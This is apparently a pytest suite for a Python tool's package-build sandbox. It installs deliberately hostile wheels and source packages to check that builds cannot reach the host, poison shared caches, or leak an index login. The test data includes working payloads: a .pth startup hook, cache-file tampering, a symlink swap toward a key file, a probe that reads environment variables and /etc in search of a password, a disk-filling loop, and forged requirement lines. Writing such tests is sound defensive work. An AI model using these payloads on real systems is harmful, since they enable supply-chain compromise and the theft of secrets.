"""Packages that attack the host, other builds or the index while they are installed.

It calls the build steps themselves, because a hostile package must be observed between them.
"""

import base64
import json
import os
import shutil
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from seer.environment.packages import _build_jail
from seer.environment.packages._assemble import take_over
from seer.environment.packages._packages import build_environment
from seer.environment.packages._uv import BuildFailed, _checked, _read, _take_wheel  # pyright: ignore[reportPrivateUsage]
from seer.errors import IsolationUnavailableError, PackageError, PathEscapeError
from seer.isolation import Backend, choose
from seer.isolation.backends._base import Need
from tests.attacks.package_index import PackageIndex

pytestmark = [pytest.mark.full, pytest.mark.timeout(300)]

VERSION = f"python{sys.version_info.major}.{sys.version_info.minor}"
LOGIN = "reader:correct-horse"


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[PackageIndex]:
    """The only index of the settings; it wants a login."""
    for name in list(os.environ):
        if name.startswith(("UV_", "PIP_", "SSL_")) or name.lower().endswith("_proxy"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("UV_NO_CONFIG", "1")
    with PackageIndex(LOGIN) as served:
        monkeypatch.setenv("UV_DEFAULT_INDEX", served.url)
        yield served


@pytest.fixture
def service() -> Iterator[tuple[int, list[bytes]]]:
    """A service on the host's loopback that no build may reach: its port, and what it was sent."""
    got: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def serve() -> None:
            while True:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    return
                with connection:
                    got.append(connection.recv(4096))

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield listener.getsockname()[1], got
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(10)


def module(environment: Path, name: str) -> str:
    return (environment / "lib" / VERSION / "site-packages" / f"{name}.py").read_text()


# What planted code does first: report that it ran, and plant a line in any cache it finds.
PLANT = """import os, urllib.request, contextlib
def attack():
    for url in ("http://127.0.0.1:3128/index/0/code-ran/", "http://127.0.0.1:{port}/simple/code-ran/"):
        with contextlib.suppress(Exception):
            urllib.request.urlopen(url, timeout=5).close()
    for folder, _, names in os.walk("/seer/cache"):
        for name in names:
            if name.endswith(".py"):
                with contextlib.suppress(OSError), open(os.path.join(folder, name), "a") as file:
                    file.write("planted = True")
attack()
"""
# Then: replace the environment by a link to a folder of the host.
SWAP = """
with contextlib.suppress(OSError):
    os.rename("/seer/build/env", "/seer/build/old")
    os.symlink("{precious}", "/seer/build/env")
"""


def pth(code: str) -> dict[str, str]:
    """The files of a wheel whose code runs whenever Python starts with it installed."""
    return {"evil.py": "", "evil.pth": f"import sys; exec({code.encode()!r}, {{}})\n"}


async def test_a_pth_file_in_a_wheel_takes_over_the_host(
    index: PackageIndex, tmp_path: Path
) -> None:
    precious = tmp_path / "precious"
    precious.mkdir(mode=0o755)
    key = precious / "id_key"
    key.write_text("secret")
    key.chmod(0o600)
    before = key.stat()
    index.add_wheel("evil", files=pth((PLANT + SWAP).format(port=index.port, precious=precious)))
    environment = await build_environment(["evil"])
    assert not [path for path in index.requests if "code-ran" in path]
    after = key.stat()
    assert (after.st_mode, after.st_uid, after.st_ino) == (
        before.st_mode,
        before.st_uid,
        before.st_ino,
    )
    assert not list(environment.rglob("id_key"))
    # The bytecode exists nevertheless.
    assert list(environment.rglob("evil.*.pyc"))


async def test_a_build_plants_code_in_what_other_builds_get(index: PackageIndex) -> None:
    index.add_wheel("victim")
    await build_environment(["victim"])
    code = PLANT.format(port=index.port)
    index.add_wheel("evil", files=pth(code))
    source = f"def attack():\n    exec({code.encode()!r}, {{}})\n    return ''\n"
    index.add_sdist("worse", "1.0", source)
    await build_environment(["evil", "victim"])
    await build_environment(["evil", "worse", "victim"])
    # This package is built, so its code may run: this shows that the attack itself works.
    assert [path for path in index.requests if "code-ran" in path]
    index.add_wheel("third")
    environment = await build_environment(["victim", "third"])
    assert module(environment, "victim") == "version = '1.0'\n"


PROBE = """
def attack():
    import json, socket, urllib.request
    def reach(url):
        try:
            with urllib.request.urlopen(url, timeout=60) as answer:
                return answer.status
        except Exception as error:
            return type(error).__name__ + ": " + str(error)
    def connect(host, port):
        try:
            socket.create_connection((host, port), timeout=5).close()
            return True
        except OSError as error:
            return False
    found = {}
    base = os.environ["UV_DEFAULT_INDEX"].rpartition("/index/")[0]
    found["index"] = reach(base + "/index/0/probing/")
    found["other index"] = reach(base + "/index/1/probing/")
    found["root"] = reach(base + "/")
    found["climbing"] = reach(base + "/index/0/../files/x")
    found["absolute"] = reach(base + "/http://127.0.0.1:PORT/")
    token = "WyJodHRwOi8vMTI3LjAuMC4xL3gud2hsIiwgbnVsbF0="
    found["forged"] = reach(base + "/file/" + token + "." + "0" * 32 + "/x.whl")
    found["host"] = [connect(host, PORT) for host in ("127.0.0.1", "OWN", "localhost")]
    found["name server"] = True
    try:
        socket.getaddrinfo("example.org", 80)
    except OSError:
        found["name server"] = False
    texts = [json.dumps(dict(os.environ))]
    for top in ("/seer/home", "/seer/build", "/tmp", "/etc"):
        for folder, _, names in os.walk(top):
            for name in names:
                try:
                    with open(os.path.join(folder, name), errors="replace") as file:
                        texts.append(file.read(100000))
                except OSError:
                    pass
    found["password"] = any(WORD[::-1] in text for text in texts)
    found["uid"] = os.getuid()
    return "found = " + repr(json.dumps(found))
"""


async def test_code_in_a_build_reaches_anything_but_the_index(
    index: PackageIndex, service: tuple[int, list[bytes]]
) -> None:
    port, got = service
    probe = PROBE.replace("PORT", str(port)).replace("OWN", _own_address())
    # Written backwards, so that the probe does not find its own text.
    probe = f"WORD = {LOGIN.partition(':')[2][::-1]!r}\n" + probe
    index.add_sdist("probing", "1.0", probe)
    environment = await build_environment(["probing"])
    names: dict[str, str] = {}
    exec(module(environment, "probing"), names)
    found = json.loads(names["found"])
    assert (found.pop("host"), got) == ([False, False, False], [])
    assert found.pop("index") == 200
    assert found.pop("uid") != 0
    refused = {found.pop(key) for key in ("other index", "root", "climbing", "absolute", "forged")}
    assert refused == {"HTTPError: HTTP Error 404: Not Found"}
    assert found == {"name server": False, "password": False}


def _own_address() -> str:
    """An address of this machine beside loopback, where it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("198.51.100.1", 9))
        except OSError:
            return "127.0.0.1"
        return probe.getsockname()[0]


FILL = """
def attack():
    with open("/proc/self/oom_score_adj") as file:
        kept = file.read().strip()
    if kept != "1000":
        return ""
    with open("/seer/build/filling", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
            file.flush()
"""


async def test_a_build_fills_the_disk_of_the_host(
    index: PackageIndex, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    index.add_sdist("filling", "1.0", FILL)
    free = shutil.disk_usage(tmp_path).free
    monkeypatch.setattr(_build_jail, "_SPARE", free - (256 << 20))
    with pytest.raises(PackageError, match="the build was stopped: less than"):
        await build_environment(["filling"])
    assert not list((tmp_path / "cache").rglob("filling"))


async def test_an_index_serves_a_file_that_is_not_what_it_states(
    index: PackageIndex, tmp_path: Path
) -> None:
    file = index.add_wheel("swapped")
    _, content = index.answer(f"/files/{file}", _authorization())
    index.add(file, content + b"more", stated="0" * 64)
    with pytest.raises(PackageError, match="does not have the sha256 that its index states"):
        await build_environment(["swapped"])
    assert not list((tmp_path / "cache/seer/packages").glob("sha*"))
    index.add(file, content)
    environment = await build_environment(["swapped"])
    assert module(environment, "swapped")
    # The second environment takes the file from here.
    index.requests.clear()
    index.add_wheel("another")
    await build_environment(["swapped", "another"])
    assert f"/files/{file}" not in index.requests


def _authorization() -> str:
    return "Basic " + base64.b64encode(LOGIN.encode()).decode()


async def test_an_index_lists_files_of_this_machine(
    index: PackageIndex, service: tuple[int, list[bytes]], tmp_path: Path
) -> None:
    port, got = service
    secret = tmp_path / "listed-1.0-py3-none-any.whl"
    secret.write_text("of the host")
    links = f'<a href="http://127.0.0.1:{port}/listed-2.0-py3-none-any.whl">x</a>'
    links += f'<a href="file://{secret}">x</a>'
    index.pages["listed"] = links
    with pytest.raises(PackageError):
        await build_environment(["listed"])
    assert got == []


async def test_an_index_redirects_to_have_the_login_sent_elsewhere(
    index: PackageIndex, service: tuple[int, list[bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    file = index.add_wheel("moved")
    _, content = index.answer(f"/files/{file}", _authorization())
    with PackageIndex() as other:
        other.add(file, content)
        index.redirects[f"/files/{file}"] = f"http://127.0.0.1:{other.port}/files/{file}"
        monkeypatch.setenv("UV_INDEX", other.url)
        monkeypatch.setenv("UV_INDEX_STRATEGY", "unsafe-first-match")
        other.pages["moved"] = ""
        environment = await build_environment(["moved"])
        assert module(environment, "moved")
        assert f"/files/{file}" in other.requests
        assert set(other.logins) == {None}
    # An address on this machine gets no request if it is not an index of the settings.
    port, got = service
    second = index.add_wheel("sent")
    index.redirects[f"/files/{second}"] = f"http://127.0.0.1:{port}/{second}"
    monkeypatch.delenv("UV_INDEX")
    with pytest.raises(PackageError, match="sent"):
        await build_environment(["sent"])
    assert got == []


async def test_without_bubblewrap_nothing_is_fetched_from_an_index(
    index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Landlock has no network in which only the index can be reached, so it is not used."""

    def landlock(_: str, *, needs: frozenset[Need] = frozenset()) -> Backend:
        return choose("landlock", needs=needs)

    index.add_wheel("wanted")
    monkeypatch.setattr(_build_jail, "choose", landlock)
    with pytest.raises(IsolationUnavailableError, match="apt install bubblewrap"):
        await build_environment(["wanted"])


async def test_the_newest_version_is_taken_though_it_must_be_built(index: PackageIndex) -> None:
    index.add_wheel("sourced", "1.0")
    index.add_sdist("sourced", "2.0", "def attack():\n    return 'version = 2'\n")
    index.add_wheel("above", files={"above.py": ""})
    environment = await build_environment(["sourced", "above"])
    assert module(environment, "sourced") == "version = 2"


def test_a_build_puts_links_in_the_place_of_its_results(tmp_path: Path) -> None:
    precious, work, wheels = (tmp_path / name for name in ("precious", "work", "wheels"))
    for folder in (precious, work, wheels):
        folder.mkdir()
    name = "pkg-1.0-py3-none-any.whl"
    (precious / name).write_text("secret")
    (precious / "lib").mkdir()
    (precious / "lib" / "key").write_text("secret")
    (work / "out.txt").symlink_to(precious / name)
    with pytest.raises(BuildFailed, match="symbolic link"):
        _read(work, "out.txt")
    (work / "env").symlink_to(precious)
    with pytest.raises(PathEscapeError):
        take_over(work / "env", wheels)
    (work / "out").symlink_to(precious)
    with pytest.raises(BuildFailed, match="symbolic link"):
        _take_wheel(work, "pkg", wheels)
    (work / "out").unlink()
    (work / "out").mkdir()
    (work / "out" / name).symlink_to(precious / name)
    with pytest.raises(BuildFailed, match="symbolic link"):
        _take_wheel(work, "pkg", wheels)
    (work / "out" / name).unlink()
    os.mkfifo(work / "out" / name)
    with pytest.raises(BuildFailed, match="not a file"):
        _take_wheel(work, "pkg", wheels)
    with pytest.raises(BuildFailed, match="instead of one wheel"):
        _take_wheel(work, "other", wheels)
    assert not list(wheels.iterdir())
    assert (precious / "lib" / "key").exists()


@pytest.mark.parametrize(
    "line", ["pkg==1.0\n--index-url http://x", "-e file:///x", "pkg and more", ""]
)
def test_a_build_forges_the_list_of_packages(line: str) -> None:
    with pytest.raises(BuildFailed, match="in the list of packages is not a requirement"):
        _checked(line)
